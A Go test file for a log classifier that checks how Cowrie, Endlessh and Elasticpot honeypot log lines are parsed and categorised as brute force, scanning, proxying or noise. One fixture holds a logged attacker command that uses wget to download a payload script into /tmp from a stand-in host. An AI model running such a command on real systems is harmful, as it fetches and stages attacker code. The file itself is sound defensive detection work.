package classify

import "testing"

var honeypotSeeds = []string{
	`{"eventid":"cowrie.login.failed","username":"root","password":"123456","timestamp":"2021-03-03T09:52:41.000000Z","src_ip":"203.0.113.120","session":"0a1b"}`,
	`{"eventid":"cowrie.command.input","input":"uname -a","timestamp":"2021-03-03T09:53:02.000000Z","src_ip":"203.0.113.121","session":"1b2c"}`,
	"2021-03-03T09:56:01.000000+0000 [SSHService b'ssh-userauth' on HoneyPotSSHTransport,7,203.0.113.124] login attempt [b'ubnt'/b'ubnt'] failed",
	"2021-03-03T09:56:00.000000+0000 [cowrie.ssh.factory.CowrieSSHFactory] New connection: 203.0.113.124:42000 (10.0.0.7:2222) [session: 4e5f]",
	"2021-03-03T09:52:50.001Z ACCEPT host=::ffff:203.0.113.130 port=41234 fd=4 n=1/4096",
}

func init() { fuzzSeeds = append(fuzzSeeds, honeypotSeeds...) }

func TestHoneypotLines(t *testing.T) {
	rules := mustRules(t, "")
	f := func(name string) Format { return mustFormat(t, name) }
	runLineCases(t, rules, Options{}, []lineCase{
		{name: "cowrie login failed", format: f("cowrie_json"), line: honeypotSeeds[0],
			ip: "203.0.113.120", time: "2021-03-03T09:52:41Z", cat: BruteForce, rule: "honeypot-login"},
		{name: "cowrie login success", format: f("cowrie_json"),
			line: `{"eventid":"cowrie.login.success","username":"root","timestamp":"2021-03-03T09:53:01Z","src_ip":"203.0.113.121"}`,
			ip:   "203.0.113.121", cat: BruteForce, rule: "honeypot-login"},
		{name: "cowrie command", format: f("cowrie_json"), line: honeypotSeeds[1], ip: "203.0.113.121", cat: VulnScanner, rule: "honeypot-command"},
		{name: "cowrie forwarding", format: f("cowrie_json"),
			line: `{"eventid":"cowrie.direct-tcpip.request","dst_ip":"142.250.0.1","dst_port":443,"src_ip":"203.0.113.122","timestamp":"2021-03-03T09:54:01Z"}`,
			ip:   "203.0.113.122", cat: ProxyScanner, rule: "honeypot-proxy"},
		{name: "cowrie connect", format: f("cowrie_json"),
			line: `{"eventid":"cowrie.session.connect","src_ip":"198.51.100.123","timestamp":"2021-03-03T09:55:00Z"}`,
			ip:   "198.51.100.123", cat: Noise, rule: "honeypot-connection"},
		{name: "cowrie other event", format: f("cowrie_json"), result: "ignored",
			line: `{"eventid":"cowrie.client.kex","src_ip":"198.51.100.123","timestamp":"2021-03-03T09:55:00Z"}`},
		{name: "cowrie text login", format: f("cowrie"), line: honeypotSeeds[2], ip: "203.0.113.124", cat: BruteForce, rule: "honeypot-login"},
		{name: "cowrie text connect", format: f("cowrie"), line: honeypotSeeds[3], ip: "203.0.113.124", cat: Noise, rule: "honeypot-connection"},
		{name: "cowrie text command", format: f("cowrie"),
			line: "2021-03-03T09:56:03+0000 [HoneyPotSSHTransport,7,203.0.113.124] CMD: cd /tmp; wget http://192.0.2.66/bins.sh",
			ip:   "203.0.113.124", cat: VulnScanner, rule: "honeypot-command"},
		{name: "cowrie text other", format: f("cowrie"), result: "ignored",
			line: "2021-03-03T09:56:04+0000 [HoneyPotSSHTransport,7,203.0.113.124] Command found: cd /tmp"},
		{name: "endlessh accept", format: f("endlessh"), line: honeypotSeeds[4], ip: "203.0.113.130", cat: Noise, rule: "honeypot-connection"},
		{name: "endlessh close", format: f("endlessh"), result: "ignored",
			line: "2021-03-03T10:05:31.456Z CLOSE host=::ffff:203.0.113.130 port=41234 fd=4 time=761.455 bytes=8123"},
	})
}

func TestCowrieUser(t *testing.T) {
	p := newLineParser(mustRules(t, ""), &Options{})
	fc := &fileCtx{format: mustFormat(t, "cowrie"), ref: testNow, cols: noColumns}
	if res := p.parseLine([]byte(honeypotSeeds[2]), fc.format, fc); res != resOK || string(p.rec.user) != "ubnt" {
		t.Errorf("user = %q (%s), want ubnt", p.rec.user, resultNames[res])
	}
}

// Elasticpot: scans are connections to a honeypot, attacks its source at
// work.
func TestElasticpot(t *testing.T) {
	log := `{"eventid":"elasticpot.recon","message":"Scan","url":"/_nodes","timestamp":"2026-11-27T13:39:36.897675Z","src_ip":"198.51.100.198","src_port":12245,"dst_port":9200}` + "\n" +
		`{"eventid":"elasticpot.attack","message":"Exploit","url":"/_search?source=x","timestamp":"2026-11-27T13:39:37Z","src_ip":"198.51.100.199","src_port":12246,"dst_port":9200}` + "\n"
	evs, _, _ := run(t, "", log, Options{})
	got := map[string]string{}
	for _, e := range evs {
		got[e.IP.String()] = e.Rule + " " + e.Service
	}
	if got["198.51.100.198"] != "honeypot-connection elasticpot" || got["198.51.100.199"] != "honeypot-command elasticpot" {
		t.Errorf("events %v", got)
	}
}
